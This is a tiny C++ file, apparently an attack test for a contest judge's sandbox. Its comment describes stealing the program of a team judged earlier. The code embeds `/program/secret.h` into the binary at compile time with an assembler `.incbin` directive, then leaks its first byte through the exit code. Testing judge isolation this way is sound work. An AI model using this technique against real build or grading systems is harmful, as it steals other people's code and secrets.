// Attacks: the team judged before on this slot: copies its program into ours.
__asm__(".section .rodata\n.global stolen\nstolen: .incbin \"/program/secret.h\"\n");
extern "C" const char stolen[];
int main() { return stolen[0]; }
